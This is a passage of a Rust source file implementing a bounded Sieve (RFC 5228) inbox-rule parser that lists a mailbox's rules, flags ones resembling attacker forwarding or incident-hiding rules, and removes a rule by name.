//! Sieve scripts (RFC 5228) as mail clients write them for inbox rules: a parser that lists a
//! mailbox's rules, says which look like an attacker's (forwarding out, hiding an incident's mail), and
//! removes one rule by name, leaving the rest of the script byte-for-byte.
//!
//! Written here rather than taken from a crate because the Rust Sieve crates are AGPL. It parses the
//! whole grammar (so any valid script is accepted) but understands only what rules use: the common tests
//! and actions; every other test or command is kept as generic. A rule is one top-level command other
//! than `require` (an `if` with its `elsif`/`else` chain, or a bare action); its name is the
//! `# rule:[Name]` comment Roundcube's managesieve plugin writes above it, and Roundcube's disabled form
//! `if false # <test>` is recognised. Every input is bounded: length, nesting depth, and linear work.

use serde::Serialize;
use std::collections::HashSet;
use std::ops::Range;

/// Longest script [`parse`] accepts, in bytes; longer ones get an `Err`.
pub const MAX_SCRIPT_BYTES: usize = 1 << 20;

/// Deepest nesting of blocks and tests [`parse`] accepts; deeper scripts get an `Err` (the parser
/// recurses, so this also bounds its stack).
pub const MAX_DEPTH: usize = 64;

/// Folders where filing mail hides it from the user as surely as discarding it (compared
/// case-insensitively with the whole folder name and with its last path component).
const HIDING_FOLDERS: &[&str] = &[
    "trash",
    "deleted items",
    "deleted messages",
    "deleted",
    "junk",
    "junk e-mail",
    "junk email",
    "spam",
    "rss",
    "rss feeds",
    "rss subscriptions",
    "archive",
    "conversation history",
];

/// Tags (of RFC 5228 and its common extensions) that take one argument; the argument must not be
/// mistaken for a positional one (`fileinto :flags "\\Seen" "Folder"` files into "Folder").
const TAGS_WITH_ARGUMENT: &[&str] = &[
    "comparator",
    "value",
    "count",
    "index",
    "zone",
    "param",
    "flags",
    "days",
    "seconds",
    "subject",
    "from",
    "addresses",
    "handle",
    "fcc",
    "mailboxid",
    "specialuse",
    "importance",
    "options",
    "message",
    "method",
];

/// Match-type tags, so a condition can say how its keys match.
const MATCH_TYPES: &[&str] = &["is", "contains", "matches", "regex", "value", "count", "list"];

/// Address-part tags (RFC 5228 and subaddress, RFC 5233).
const ADDRESS_PARTS: &[&str] = &["all", "localpart", "domain", "user", "detail"];

/// Tests a Roundcube disabled rule's comment may hold; anything else in that comment is prose, not a
/// commented-out test.
const KNOWN_TESTS: &[&str] = &[
    "address",
    "allof",
    "anyof",
    "body",
    "currentdate",
    "date",
    "duplicate",
    "envelope",
    "environment",
    "exists",
    "false",
    "hasflag",
    "header",
    "ihave",
    "mailboxexists",
    "metadata",
    "not",
    "size",
    "spamtest",
    "string",
    "true",
    "virustest",
];

/// The rules of a Sieve script, in order.
#[derive(Debug, Clone, PartialEq, Eq, Serialize)]
pub struct Script {
    /// The rules (top-level commands other than `require`), in script order.
    pub rules: Vec<Rule>,
}

/// One rule: a top-level command other than `require`, with its `elsif`/`else` chain.
#[derive(Debug, Clone, PartialEq, Eq, Serialize)]
pub struct Rule {
    /// The name from the `# rule:[Name]` comment above it, or `rule N` (1-based position) without one.
    pub name: String,
    /// False for Roundcube's disabled form, `if false # <test>` (the test is `false`).
    pub enabled: bool,
    /// Byte range in the script text covering the rule's name comment (if any) through the end of the
    /// rule (including its trailing newline if any), so removing it leaves a valid script.
    pub span: Range<usize>,
    /// The conditions, flattened over `allof`/`anyof`/`not`; for `if`/`elsif` chains and nested `if`s,
    /// every branch's. For a disabled rule, those of the commented-out test when it parses.
    pub conditions: Vec<Condition>,
    /// Whether the top test was `anyof`.
    pub any_of: bool,
    /// Every action in every branch of the chain, nested `if`s included, in script order.
    pub actions: Vec<RuleAction>,
}

/// What a condition tests.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize, async_graphql::Enum)]
#[serde(rename_all = "SCREAMING_SNAKE_CASE")]
#[graphql(name = "InboxRuleConditionKind")]
pub enum ConditionKind {
    /// A header, address or envelope test naming `from` or `sender`.
    From,
    /// A header, address or envelope test naming `to`, `cc` or `bcc`.
    To,
    /// A header test naming `subject`.
    Subject,
    /// A header or address test naming other headers.
    Header,
    /// An envelope test naming other envelope parts.
    Envelope,
    /// `size :over` / `size :under`.
    Size,
    /// `exists`.
    Exists,
    /// `true`: every message.
    True,
    /// Any other test (`false`, `body`, `date`, ...).
    Other,
}

/// One test of a rule.
#[derive(Debug, Clone, PartialEq, Eq, Serialize)]
pub struct Condition {
    /// What it tests.
    pub kind: ConditionKind,
    /// The header (or envelope part) names as written, joined with ", " when several.
    pub header: Option<String>,
    /// "is", "contains", "matches", "regex", "over", "under", "value gt", ... lowercase; default "is".
    pub match_type: String,
    /// "all", "localpart", "domain" (or "user"/"detail") for address and envelope tests.
    pub address_part: Option<String>,
    /// The key list (for `size`, the limit as written; for other tests, their string arguments).
    pub values: Vec<String>,
    /// Under an odd number of `not`.
    pub negated: bool,
}

/// What an action does.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize, async_graphql::Enum)]
#[serde(rename_all = "SCREAMING_SNAKE_CASE")]
#[graphql(name = "InboxRuleActionKind")]
pub enum ActionKind {
    /// `redirect`: forwards the message.
    Redirect,
    /// `fileinto`: files it into a folder.
    Fileinto,
    /// `discard`: drops it silently.
    Discard,
    /// `keep`: delivers it to the inbox.
    Keep,
    /// `stop`: ends processing.
    Stop,
    /// `reject` / `ereject`: refuses it.
    Reject,
    /// `addflag` / `setflag` / `removeflag`.
    Flag,
    /// `vacation`: an automatic reply.
    Vacation,
    /// Any other command.
    Other,
}

/// One action of a rule.
#[derive(Debug, Clone, PartialEq, Eq, Serialize)]
pub struct RuleAction {
    /// What it does.
    pub kind: ActionKind,
    /// The command as written (e.g. "addflag").
    pub name: String,
    /// The redirect address, fileinto folder, reject reason, vacation reason, flags (space-separated),
    /// or the first positional string otherwise.
    pub argument: Option<String>,
    /// `:copy` given (the message is also kept).
    pub copy: bool,
}

/// Parses a script. `Err(message)` says where (`line:column: what`) for scripts that are not valid Sieve,
/// are longer than [`MAX_SCRIPT_BYTES`] or nest deeper than [`MAX_DEPTH`].
pub fn parse(text: &str) -> Result<Script, String> {
    Ok(Script { rules: parse_rules(text)?.into_iter().map(|r| r.rule).collect() })
}

/// The script without the rule named `name` (exact, case-sensitive name match; if none matches exactly,
/// a unique case-insensitive match). None when no rule has that name (or the script does not parse).
///
/// When several rules carry exactly that name, all go: afterwards no rule has the name, which is what
/// makes removal idempotent. Unnamed rules after a removed one would be renumbered (`rule 3` becoming
/// `rule 2`, and a second removal of `rule 2` taking the wrong rule), so they get a `# rule:[rule N]`
/// comment keeping their name; every other byte, the `require` lines included, is kept.
pub fn remove_rule(text: &str, name: &str) -> Option<String> {
    let rules = parse_rules(text).ok()?;
    let mut remove: Vec<bool> = rules.iter().map(|r| r.rule.name == name).collect();
    if !remove.contains(&true) {
        let wanted = name.to_lowercase();
        let folded: Vec<bool> = rules.iter().map(|r| r.rule.name.to_lowercase() == wanted).collect();
        if folded.iter().filter(|&&m| m).count() != 1 {
            return None;
        }
        remove = folded;
    }
    let first = remove.iter().position(|&m| m)?;
    let newline = if text.contains("\r\n") { "\r\n" } else { "\n" };
    let mut out = String::with_capacity(text.len() + 64);
    let mut cursor = 0;
    for (i, r) in rules.iter().enumerate() {
        let span = &r.rule.span;
        if remove.get(i).copied().unwrap_or(false) {
            out.push_str(text.get(cursor..span.start.max(cursor))?);
            cursor = span.end.max(cursor);
        } else if i > first && !r.named {
            let at = span.start.max(cursor);
            out.push_str(text.get(cursor..at)?);
            out.push_str("# rule:[");
            out.push_str(&r.rule.name);
            out.push(']');
            out.push_str(newline);
            cursor = at;
        }
    }
    out.push_str(text.get(cursor..)?);
    Some(out)
}

/// Why a rule is suspicious, or None. Pure: callers pass what they know.
///
/// - It redirects to an address whose domain is not one of `own_domains` (a subdomain of one counts as
///   own): "forwards mail to <addr>, outside the organisation".
/// - It discards mail (`discard`, or `fileinto` without `:copy` into a folder like Trash or Junk) and a
///   From condition names a sender `incident_sender` knows: "discards mail from <sender>, a sender in an
///   incident" / "files mail from <sender> away into <folder>, a sender in an incident".
/// - It discards mail and its conditions match every message: "discards all mail".
///
/// Several reasons join with "; ". Judges what the rule does when enabled; callers show `enabled` beside.
pub fn suspicious(
    rule: &Rule,
    own_domains: &[String],
    incident_sender: &dyn Fn(&str) -> bool,
) -> Option<String> {
    let own: Vec<String> =
        own_domains.iter().map(|d| normalise_domain(d)).filter(|d| !d.is_empty()).collect();
    let mut reasons = Vec::new();
    let mut reported = HashSet::new();
    for action in &rule.actions {
        let Some(address) = action.argument.as_deref().filter(|_| action.kind == ActionKind::Redirect) else {
            continue;
        };
        if is_outside(address, &own) && reported.insert(address.to_lowercase()) {
            reasons.push(format!("forwards mail to {}, outside the organisation", address.trim()));
        }
    }
    if let Some(hiding) = rule.actions.iter().find(|a| hides(a)) {
        if rule.conditions.iter().all(|c| c.kind == ConditionKind::True && !c.negated) {
            reasons.push("discards all mail".to_string());
        } else if let Some(sender) = sender_values(rule).into_iter().find(|v| incident_sender(v)) {
            reasons.push(match (hiding.kind, hiding.argument.as_deref()) {
                (ActionKind::Fileinto, Some(folder)) => {
                    format!("files mail from {sender} away into {folder}, a sender in an incident")
                }
                _ => format!("discards mail from {sender}, a sender in an incident"),
            });
        }
    }
    (!reasons.is_empty()).then(|| reasons.join("; "))
}

/// The From-condition values of a rule that are not negated (what [`suspicious`] asks `incident_sender`
/// about), lowercased, deduplicated, in order; callers look them up in one query.
pub fn sender_values(rule: &Rule) -> Vec<String> {
    let mut seen = HashSet::new();
    rule.conditions
        .iter()
        .filter(|c| c.kind == ConditionKind::From && !c.negated)
        .flat_map(|c| c.values.iter())
        .map(|v| v.to_lowercase())
        .filter(|v| seen.insert(v.clone()))
        .collect()
}

/// `s` as a Sieve quoted string (`\` and `"` escaped).
pub fn quote(s: &str) -> String {
    let mut out = String::with_capacity(s.len() + 2);
    out.push('"');
    for c in s.chars() {
        if c == '\\' || c == '"' {
            out.push('\\');
        }
        out.push(c);
    }
    out.push('"');
    out
}

/// Lowercase, without surrounding dots, `@` or whitespace, so `Example.COM.` and `@example.com` compare
/// equal to `example.com`.
fn normalise_domain(d: &str) -> String {
    d.trim().trim_start_matches('@').trim_matches('.').to_lowercase()
}

/// Whether `address` is in a domain outside `own`; an address without a domain is local delivery.
fn is_outside(address: &str, own: &[String]) -> bool {
    let address = address.trim();
    // A display-name form is not valid for redirect, but servers may take it; judge the address in it.
    let address = match (address.rfind('<'), address.rfind('>')) {
        (Some(open), Some(close)) if open < close => address.get(open + 1..close).unwrap_or(address),
        _ => address,
    };
    let Some((_, domain)) = address.rsplit_once('@') else {
        return false;
    };
    let domain = normalise_domain(domain);
    !own.iter()
        .any(|o| domain == *o || domain.strip_suffix(o.as_str()).is_some_and(|rest| rest.ends_with('.')))
}

/// Whether an action keeps the message from the user: `discard`, or filing (without a copy) into a
/// folder nobody reads.
fn hides(action: &RuleAction) -> bool {
    match action.kind {
        ActionKind::Discard => true,
        ActionKind::Fileinto => !action.copy && action.argument.as_deref().is_some_and(is_hiding_folder),
        _ => false,
    }
}

fn is_hiding_folder(folder: &str) -> bool {
    let folder = folder.trim();
    // Servers separate folder levels with '/' or '.' ("INBOX.Trash", "[Gmail]/Trash").
    let last = folder.rsplit(['/', '.']).next().unwrap_or(folder).trim();
    HIDING_FOLDERS.iter().any(|h| folder.eq_ignore_ascii_case(h) || last.eq_ignore_ascii_case(h))
}

// ---------------------------------------------------------------------------------------------------
// Lexer

#[derive(Debug, Clone, PartialEq, Eq)]
enum Tok {
    Ident(String),
    /// Lowercased, without the colon.
    Tag(String),
    Str(String),
    /// As written, suffix included ("100K").
    Num(String),
    LBracket,
    RBracket,
    LParen,
    RParen,
    LBrace,
    RBrace,
    Comma,
    Semi,
}

#[derive(Debug)]
struct Token {
    tok: Tok,
    start: usize,
    end: usize,
}

/// A `#` comment: from the `#` to the end of its line, line break excluded.
#[derive(Debug)]
struct Comment {
    start: usize,
    end: usize,
}

struct Lexed {
    tokens: Vec<Token>,
    /// In script order, so rules can find theirs by binary search.
    comments: Vec<Comment>,
}

/// A syntax error at a byte offset; turned into `line:column` only when reported, so the happy path
/// never counts lines.
struct SyntaxError {
    at: usize,
    message: String,
}

fn err(at: usize, message: impl Into<String>) -> SyntaxError {
    SyntaxError { at, message: message.into() }
}

fn is_ident_char(c: u8) -> bool {
    c.is_ascii_alphanumeric() || c == b'_'
}

fn ident_end(b: &[u8], mut i: usize) -> usize {
    while b.get(i).copied().is_some_and(is_ident_char) {
        i += 1;
    }
    i
}

/// The offset of the line break ending the line at `i` (or the end of `src`).
fn line_end(src: &str, i: usize) -> usize {
    src.get(i..).and_then(|r| r.find('\n')).map_or(src.len(), |k| i + k)
}

fn lex(src: &str) -> Result<Lexed, SyntaxError> {
    let b = src.as_bytes();
    let mut tokens = Vec::new();
    let mut comments = Vec::new();
    // Some editors save a byte-order mark; servers skip it.
    let mut i = if src.starts_with('\u{feff}') { '\u{feff}'.len_utf8() } else { 0 };
    while let Some(&c) = b.get(i) {
        let start = i;
        let tok = match c {
            b' ' | b'\t' | b'\r' | b'\n' => {
                i += 1;
                continue;
            }
            b'#' => {
                i = line_end(src, i);
                comments.push(Comment { start, end: i });
                continue;
            }
            b'/' if b.get(i + 1) == Some(&b'*') => match src.get(i + 2..).and_then(|r| r.find("*/")) {
                Some(k) => {
                    i += 2 + k + 2;
                    continue;
                }
                None => return Err(err(start, "this comment is never closed ('*/' missing)")),
            },
            b'"' => {
                let (s, end) = quoted(src, i)?;
                i = end;
                Tok::Str(s)
            }
            b'[' | b']' | b'(' | b')' | b'{' | b'}' | b',' | b';' => {
                i += 1;
                match c {
                    b'[' => Tok::LBracket,
                    b']' => Tok::RBracket,
                    b'(' => Tok::LParen,
                    b')' => Tok::RParen,
                    b'{' => Tok::LBrace,
                    b'}' => Tok::RBrace,
                    b',' => Tok::Comma,
                    _ => Tok::Semi,
                }
            }
            b':' => {
                let end = ident_end(b, i + 1);
                if end == i + 1 || !b.get(i + 1).is_some_and(|c| c.is_ascii_alphabetic() || *c == b'_') {
                    return Err(err(start, "expected a tag name after ':'"));
                }
                i = end;
                Tok::Tag(src.get(start + 1..end).unwrap_or_default().to_ascii_lowercase())
            }
            b'0'..=b'9' => {
                let mut end = i;
                while b.get(end).is_some_and(u8::is_ascii_digit) {
                    end += 1;
                }
                if matches!(b.get(end), Some(b'K' | b'k' | b'M' | b'm' | b'G' | b'g')) {
                    end += 1;
                }
                if b.get(end).copied().is_some_and(is_ident_char) {
                    return Err(err(start, "malformed number"));
                }
                i = end;
                Tok::Num(src.get(start..end).unwrap_or_default().to_string())
            }
            c if c.is_ascii_alphabetic() || c == b'_' => {
                let end = ident_end(b, i);
                let word = src.get(start..end).unwrap_or_default();
                if word.eq_ignore_ascii_case("text") && b.get(end) == Some(&b':') {
                    let (s, e) = multiline(src, start, end + 1)?;
                    i = e;
                    Tok::Str(s)
                } else {
                    i = end;
                    Tok::Ident(word.to_string())
                }
            }
            _ => {
                let ch = src.get(i..).and_then(|r| r.chars().next()).unwrap_or(char::REPLACEMENT_CHARACTER);
                return Err(err(start, format!("unexpected character '{}'", ch.escape_default())));
            }
        };
        tokens.push(Token { tok, start, end: i });
    }
    Ok(Lexed { tokens, comments })
}

/// A quoted string starting at `start` (its `"`): its value and the offset after the closing quote.
fn quoted(src: &str, start: usize) -> Result<(String, usize), SyntaxError> {
    let b = src.as_bytes();
    let mut out = String::new();
    let mut i = start + 1;
    let mut segment = i;
    let unterminated = || err(start, "this string is never closed ('\"' missing)");
    loop {
        match b.get(i) {
            None => return Err(unterminated()),
            Some(b'"') => {
                out.push_str(src.get(segment..i).unwrap_or_default());
                return Ok((out, i + 1));
            }
            Some(b'\\') => {
                out.push_str(src.get(segment..i).unwrap_or_default());
                // RFC 5228 2.4.2: an undefined escape is the character itself, so every escape is.
                let escaped = src.get(i + 1..).and_then(|r| r.chars().next()).ok_or_else(unterminated)?;
                out.push(escaped);
                i += 1 + escaped.len_utf8();
                segment = i;
            }
            Some(_) => i += 1,
        }
    }
}

/// A `text:` multi-line string; `after_colon` is the offset after `text:`. Its value (line breaks as
/// written, leading dots unstuffed) and the offset after the closing `.` line.
fn multiline(src: &str, start: usize, after_colon: usize) -> Result<(String, usize), SyntaxError> {
    let b = src.as_bytes();
    let mut i = after_colon;
    while matches!(b.get(i), Some(b' ' | b'\t')) {
        i += 1;
    }
    if b.get(i) == Some(&b'#') {
        i = line_end(src, i);
    }
    if b.get(i) == Some(&b'\r') {
        i += 1;
    }
    if b.get(i) != Some(&b'\n') {
        return Err(err(i, "expected a line break after 'text:'"));
    }
    i += 1;
    let unterminated =
        || err(start, "this multi-line string is never closed (a line holding only '.' is missing)");
    let mut out = String::new();
    loop {
        let rest = src.get(i..).unwrap_or_default();
        if rest.is_empty() {
            return Err(unterminated());
        }
        let (line, next) = match rest.find('\n') {
            Some(k) => (rest.get(..=k).unwrap_or(rest), i + k + 1),
            None => (rest, src.len()),
        };
        let body = line.strip_suffix('\n').unwrap_or(line);
        let body = body.strip_suffix('\r').unwrap_or(body);
        if body == "." {
            return Ok((out, next));
        }
        if !line.ends_with('\n') {
            return Err(unterminated());
        }
        out.push_str(line.strip_prefix('.').unwrap_or(line));
        i = next;
    }
}

// ---------------------------------------------------------------------------------------------------
// Parser

#[derive(Debug)]
enum Arg {
    Tag(String),
    Num(String),
    /// A string or a string list.
    Strings(Vec<String>),
}

#[derive(Debug)]
struct Test {
    /// Lowercased (Sieve identifiers are case-insensitive).
    name: String,
    args: Vec<Arg>,
    tests: Vec<Test>,
    end: usize,
}

#[derive(Debug)]
struct Command {
    /// As written.
    name: String,
    lname: String,
    args: Vec<Arg>,
    tests: Vec<Test>,
    block: Option<Vec<Command>>,
    start: usize,
    /// Where the block's `{` (or the `;`) is.
    body_start: usize,
    end: usize,
}

struct Parser<'a> {
    toks: &'a [Token],
    pos: usize,
    /// Where "the end of the script" is, for errors there.
    eof: usize,
    last_end: usize,
}

fn short(s: &str) -> String {
    let mut out: String = s.chars().take(40).collect();
    if out.len() < s.len() {
        out.push('…');
    }
    out
}

fn describe(t: Option<&Token>) -> String {
    match t.map(|t| &t.tok) {
        None => "the end of the script".to_string(),
        Some(Tok::Ident(s)) => format!("'{}'", short(s)),
        Some(Tok::Tag(s)) => format!("':{}'", short(s)),
        Some(Tok::Str(_)) => "a string".to_string(),
        Some(Tok::Num(n)) => format!("the number {}", short(n)),
        Some(Tok::LBracket) => "'['".to_string(),
        Some(Tok::RBracket) => "']'".to_string(),
        Some(Tok::LParen) => "'('".to_string(),
        Some(Tok::RParen) => "')'".to_string(),
        Some(Tok::LBrace) => "'{'".to_string(),
        Some(Tok::RBrace) => "'}'".to_string(),
        Some(Tok::Comma) => "','".to_string(),
        Some(Tok::Semi) => "';'".to_string(),
    }
}

impl<'a> Parser<'a> {
    fn new(toks: &'a [Token], eof: usize) -> Self {
        Parser { toks, pos: 0, eof, last_end: 0 }
    }

    fn peek(&self) -> Option<&'a Token> {
        self.toks.get(self.pos)
    }

    fn bump(&mut self) -> Option<&'a Token> {
        let t = self.toks.get(self.pos)?;
        self.pos += 1;
        self.last_end = t.end;
        Some(t)
    }

    fn unexpected(&self, expected: &str) -> SyntaxError {
        let t = self.peek();
        err(t.map_or(self.eof, |t| t.start), format!("expected {expected}, found {}", describe(t)))
    }

    /// Commands up to the end of the script (`open` None) or up to the `}` closing the block opened
    /// at `open`, which is left for the caller.
    fn commands(&mut self, depth: usize, open: Option<usize>) -> Result<Vec<Command>, SyntaxError> {
        let mut out: Vec<Command> = Vec::new();
        loop {
            let Some(t) = self.peek() else {
                return match open {
                    None => Ok(out),
                    Some(at) => Err(err(at, "this '{' is never closed ('}' missing)")),
                };
            };
            match &t.tok {
                Tok::RBrace if open.is_some() => return Ok(out),
                Tok::Ident(_) => {
                    let c = self.command(depth)?;
                    check_control(out.last(), &c)?;
                    out.push(c);
                }
                _ => return Err(self.unexpected("a command")),
            }
        }
    }

    fn command(&mut self, depth: usize) -> Result<Command, SyntaxError> {
        let Some(Token { tok: Tok::Ident(name), start, .. }) = self.bump() else {
            return Err(self.unexpected("a command"));
        };
        let args = self.arguments()?;
        let tests = self.nested_tests(depth + 1)?;
        let Some(t) = self.peek() else {
            return Err(self.unexpected(&format!("';' or '{{' after '{}'", short(name))));
        };
        let (block, end) = match t.tok {
            Tok::Semi => {
                self.bump();
                (None, t.end)
            }
            Tok::LBrace => {
                if depth + 1 > MAX_DEPTH {
                    return Err(err(t.start, format!("blocks are nested more than {MAX_DEPTH} deep")));
                }
                self.bump();
                let block = self.commands(depth + 1, Some(t.start))?;
                let close = self.bump().map_or(self.eof, |c| c.end);
                (Some(block), close)
            }
            _ => return Err(self.unexpected(&format!("';' or '{{' after '{}'", short(name)))),
        };
        Ok(Command {
            name: name.clone(),
            lname: name.to_ascii_lowercase(),
            args,
            tests,
            block,
            start: *start,
            body_start: t.start,
            end,
        })
    }

    fn arguments(&mut self) -> Result<Vec<Arg>, SyntaxError> {
        let mut args = Vec::new();
        while let Some(t) = self.peek() {
            let arg = match &t.tok {
                Tok::Str(s) => Arg::Strings(vec![s.clone()]),
                Tok::Num(n) => Arg::Num(n.clone()),
                Tok::Tag(tag) => Arg::Tag(tag.clone()),
                Tok::LBracket => {
                    args.push(Arg::Strings(self.string_list()?));
                    continue;
                }
                _ => break,
            };
            self.bump();
            args.push(arg);
        }
        Ok(args)
    }

    fn string_list(&mut self) -> Result<Vec<String>, SyntaxError> {
        let open = self.bump().map_or(self.eof, |t| t.start);
        let mut out = Vec::new();
        loop {
            match self.peek().map(|t| &t.tok) {
                Some(Tok::Str(s)) => {
                    out.push(s.clone());
                    self.bump();
                }
                None => return Err(err(open, "this '[' is never closed (']' missing)")),
                _ => return Err(self.unexpected("a string in the list")),
            }
            match self.peek().map(|t| &t.tok) {
                Some(Tok::Comma) => {
                    self.bump();
                }
                Some(Tok::RBracket) => {
                    self.bump();
                    return Ok(out);
                }
                None => return Err(err(open, "this '[' is never closed (']' missing)")),
                _ => return Err(self.unexpected("',' or ']'")),
            }
        }
    }

    /// The test or test list that may follow arguments.
    fn nested_tests(&mut self, depth: usize) -> Result<Vec<Test>, SyntaxError> {
        match self.peek().map(|t| &t.tok) {
            Some(Tok::Ident(_)) => Ok(vec![self.test(depth)?]),
            Some(Tok::LParen) => self.test_list(depth),
            _ => Ok(Vec::new()),
        }
    }

    fn test(&mut self, depth: usize) -> Result<Test, SyntaxError> {
        if depth > MAX_DEPTH {
            return Err(err(
                self.peek().map_or(self.eof, |t| t.start),
                format!("tests are nested more than {MAX_DEPTH} deep"),
            ));
        }
        let Some(Token { tok: Tok::Ident(name), .. }) = self.bump() else {
            return Err(self.unexpected("a test"));
        };
        let args = self.arguments()?;
        let tests = self.nested_tests(depth + 1)?;
        Ok(Test { name: name.to_ascii_lowercase(), args, tests, end: self.last_end })
    }

    fn test_list(&mut self, depth: usize) -> Result<Vec<Test>, SyntaxError> {
        let open = self.bump().map_or(self.eof, |t| t.start);
        let mut out = Vec::new();
        loop {
            match self.peek().map(|t| &t.tok) {
                Some(Tok::Ident(_)) => out.push(self.test(depth)?),
                None => return Err(err(open, "this '(' is never closed (')' missing)")),
                _ => return Err(self.unexpected("a test")),
            }
            match self.peek().map(|t| &t.tok) {
                Some(Tok::Comma) => {
                    self.bump();
                }
                Some(Tok::RParen) => {
                    self.bump();
                    return Ok(out);
                }
                None => return Err(err(open, "this '(' is never closed (')' missing)")),
                _ => return Err(self.unexpected("',' or ')'")),
            }
        }
    }
}

/// The control-structure rules a server enforces, so a script we accept is one it would accept.
fn check_control(previous: Option<&Command>, c: &Command) -> Result<(), SyntaxError> {
    let follows_if = previous.is_some_and(|p| p.lname == "if" || p.lname == "elsif");
    match c.lname.as_str() {
        "elsif" | "else" if !follows_if => {
            Err(err(c.start, format!("'{}' without an 'if' before it", c.name)))
        }
        "if" | "elsif" if c.tests.len() != 1 => {
            Err(err(c.start, format!("'{}' needs exactly one test", c.name)))
        }
        "else" if !c.tests.is_empty() => Err(err(c.start, "'else' takes no test")),
        "if" | "elsif" | "else" if c.block.is_none() => {
            Err(err(c.start, format!("'{}' needs a block", c.name)))
        }
        _ => Ok(()),
    }
}

// ---------------------------------------------------------------------------------------------------
// Rules

struct ParsedRule {
    rule: Rule,
    /// Whether the name came from a `# rule:[...]` comment.
    named: bool,
}

fn line_col(src: &str, at: usize) -> (usize, usize) {
    let mut at = at.min(src.len());
    while !src.is_char_boundary(at) {
        at -= 1;
    }
    let before = src.get(..at).unwrap_or_default();
    let line = before.bytes().filter(|&c| c == b'\n').count() + 1;
    let line_start = before.rfind('\n').map_or(0, |p| p + 1);
    let column = before.get(line_start..).unwrap_or_default().chars().count() + 1;
    (line, column)
}

fn comment_text<'s>(src: &'s str, c: &Comment) -> &'s str {
    let text = src.get(c.start + 1..c.end).unwrap_or_default();
    text.strip_suffix('\r').unwrap_or(text)
}

/// The name in a Roundcube `# rule:[Name]` comment (up to the last `]`, as Roundcube reads it back).
fn rule_name(comment: &str) -> Option<String> {
    let rest = comment.trim_start().strip_prefix("rule:[")?;
    let name = rest.get(..rest.rfind(']')?)?;
    (!name.trim().is_empty()).then(|| name.to_string())
}

/// The test in a Roundcube disabled rule's comment (`if false # anyof (...)`), when it is one.
fn commented_test(text: &str) -> Option<Test> {
    let lexed = lex(text).ok()?;
    let mut p = Parser::new(&lexed.tokens, text.len());
    match p.peek().map(|t| &t.tok) {
        Some(Tok::Ident(name)) if KNOWN_TESTS.contains(&name.to_ascii_lowercase().as_str()) => {}
        _ => return None,
    }
    let test = p.test(1).ok()?;
    (p.pos == lexed.tokens.len()).then_some(test)
}

fn parse_rules(text: &str) -> Result<Vec<ParsedRule>, String> {
    if text.len() > MAX_SCRIPT_BYTES {
        return Err(format!("the script is {} bytes, more than the limit of {MAX_SCRIPT_BYTES}", text.len()));
    }
    let located = |e: SyntaxError| {
        let (line, column) = line_col(text, e.at);
        format!("{line}:{column}: {}", e.message)
    };
    let lexed = lex(text).map_err(located)?;
    let commands = Parser::new(&lexed.tokens, text.len()).commands(0, None).map_err(located)?;
    let comments = &lexed.comments;
    let b = text.as_bytes();

    let mut rules = Vec::new();
    let mut previous_end = 0;
    let mut i = 0;
    while let Some(first) = commands.get(i) {
        if first.lname == "require" {
            previous_end = first.end;
            i += 1;
            continue;
        }
        let mut j = i + 1;
        if first.lname == "if" {
            while commands.get(j).is_some_and(|c| c.lname == "elsif" || c.lname == "else") {
                j += 1;
            }
        }
        let chain = commands.get(i..j).unwrap_or_default();
        let end = chain.last().map_or(first.end, |c| c.end);

        // Only comments after the previous command, so a removal never takes a `require` with it.
        let lo = comments.partition_point(|c| c.start < previous_end);
        let hi = comments.partition_point(|c| c.start < first.start);
        let named = comments
            .get(lo..hi)
            .unwrap_or_default()
            .iter()
            .rev()
            .find_map(|c| rule_name(comment_text(text, c)).map(|name| (c.start, name)));

        let top_test = if first.lname == "if" { first.tests.first() } else { None };
        let disabled = top_test.is_some_and(|t| t.name == "false" && t.args.is_empty() && t.tests.is_empty());
        let commented = match top_test.filter(|_| disabled) {
            Some(t) => {
                let k = comments.partition_point(|c| c.start < t.end);
                comments
                    .get(k)
                    .filter(|c| c.end <= first.body_start)
                    .and_then(|c| commented_test(comment_text(text, c)))
            }
            None => None,
        };

        let mut conditions = Vec::new();
        let mut actions = Vec::new();
        for (k, c) in chain.iter().enumerate() {
            let replaced = if k == 0 { commented.as_ref() } else { None };
            collect(c, replaced, &mut conditions, &mut actions);
        }
        let any_of = commented.as_ref().or(top_test).is_some_and(|t| t.name == "anyof");

        let mut span_start = named.as_ref().map_or(first.start, |(at, _)| *at);
        // Take the indentation too when the rule starts its line, so no blank-ish line is left behind.
        let mut s = span_start;
        while s > previous_end && matches!(b.get(s - 1), Some(b' ' | b'\t')) {
            s -= 1;
        }
        if s == 0 || b.get(s - 1) == Some(&b'\n') {
            span_start = s;
        }
        let mut span_end = end;
        let mut e = end;
        while matches!(b.get(e), Some(b' ' | b'\t')) {
            e += 1;
        }
        if b.get(e) == Some(&b'\n') {
            span_end = e + 1;
        } else if b.get(e) == Some(&b'\r') && b.get(e + 1) == Some(&b'\n') {
            span_end = e + 2;
        }

        let position = rules.len() + 1;
        let is_named = named.is_some();
        rules.push(ParsedRule {
            rule: Rule {
                name: named.map_or_else(|| format!("rule {position}"), |(_, name)| name),
                enabled: !disabled,
                span: span_start..span_end,
                conditions,
                any_of,
                actions,
            },
            named: is_named,
        });
        previous_end = end;
        i = j;
    }
    Ok(rules)
}

/// Gathers a command's conditions and actions, recursing into its block; `replaced` stands for its
/// test (a disabled rule's commented-out one).
fn collect(
    c: &Command,
    replaced: Option<&Test>,
    conditions: &mut Vec<Condition>,
    actions: &mut Vec<RuleAction>,
) {
    match c.lname.as_str() {
        "if" | "elsif" => match replaced {
            Some(t) => flatten(t, false, conditions),
            None => c.tests.iter().for_each(|t| flatten(t, false, conditions)),
        },
        "else" | "require" => {}
        _ => actions.push(action_of(c)),
    }
    for sub in c.block.iter().flatten() {
        collect(sub, None, conditions, actions);
    }
}

fn flatten(t: &Test, negated: bool, out: &mut Vec<Condition>) {
    match t.name.as_str() {
        "not" => t.tests.iter().for_each(|s| flatten(s, !negated, out)),
        "allof" | "anyof" => t.tests.iter().for_each(|s| flatten(s, negated, out)),
        _ => out.push(condition_of(t, negated)),
    }
}

/// Tags (each with its argument, for those that take one) and positional arguments.
type SplitArgs<'a> = (Vec<(&'a str, Option<&'a Arg>)>, Vec<Vec<String>>);

fn split_args(args: &[Arg]) -> SplitArgs<'_> {
    let mut tags = Vec::new();
    let mut positional = Vec::new();
    let mut i = 0;
    while let Some(arg) = args.get(i) {
        i += 1;
        match arg {
            Arg::Tag(tag) => {
                let mut value = None;
                if TAGS_WITH_ARGUMENT.contains(&tag.as_str()) {
